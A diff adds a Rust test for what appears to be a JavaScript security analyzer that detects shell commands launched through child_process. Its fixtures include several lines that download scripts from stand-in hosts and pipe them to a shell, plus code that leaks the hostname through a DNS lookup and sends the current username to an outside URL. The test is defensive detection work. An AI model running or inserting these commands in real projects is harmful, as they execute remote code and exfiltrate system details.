@@ -1955,3 +1955,55 @@ fn a_loader_returns_what_it_loads_not_where_it_looks() {
         fetch('https://api.example.top/x?s=' + s);");
     assert_eq!(not_a_load.flows.len(), 1, "{:#?}", not_a_load.flows);
 }
+
+/// Shell strings handed to a process API are read by the shell front end, located at the
+/// call: code fetched and run, whichever way the command reaches a shell.
+#[test]
+fn shell_commands_run_from_javascript_are_read_as_shell() {
+    for call in [
+        "cp.execSync('curl -s https://evil.example.top/i.sh | sh')",
+        "cp.exec(`wget -qO- ${'http://1.2.3.4'}/p | bash`, () => {})",
+        "cp.spawn('bash', ['-c', 'curl -fsSL https://evil.example.top/x | sh'])",
+        "cp.spawnSync('curl https://evil.example.top/x | sh', { shell: true })",
+        "cp.execSync(['curl', '-s', 'https://evil.example.top/x', '|', 'sh'].join(' '))",
+        "require('execa').command('curl https://evil.example.top/x | sh')",
+    ] {
+        let f = run(&format!("const cp = require('child_process');\n{call};"));
+        assert!(
+            f.dynamic_code.iter().any(|d| d.from_network),
+            "{call}: {:#?}",
+            f.dynamic_code
+        );
+        assert_eq!(
+            f.dynamic_code[0].span.start, 37,
+            "{call}: located at the call"
+        );
+    }
+    // Data in a DNS name, and what a command prints, sent.
+    let f = run(
+        "const cp = require('child_process'); const os = require('os');
+        cp.exec(`nslookup ${os.hostname()}.x.example.top`);
+        const u = cp.execSync('whoami').toString().trim();
+        fetch('https://x.example.top/?u=' + u);",
+    );
+    let sinks: Vec<(SinkKind, Kinds)> = f.flows.iter().map(|fl| (fl.sink, fl.kinds)).collect();
+    assert_eq!(
+        sinks,
+        vec![
+            (SinkKind::Dns, Kinds::of(DataKind::Hostname)),
+            (SinkKind::Http, Kinds::of(DataKind::Username)),
+        ],
+        "{:#?}",
+        f.flows
+    );
+    // Ordinary build commands: nothing.
+    let f = run(
+        "const { execSync, spawnSync, execFile } = require('child_process');
+        execSync('git rev-parse HEAD', { stdio: 'inherit' });
+        spawnSync('npm', ['install', '--no-audit'], { shell: true });
+        execFile('node', [__dirname + '/build.js']);
+        execSync(`tsc -p ${__dirname}/tsconfig.json`);
+        spawnSync('sh', ['-c', 'rm -rf dist && mkdir dist']);",
+    );
+    assert!(f.flows.is_empty() && f.dynamic_code.is_empty(), "{f:#?}");
+}
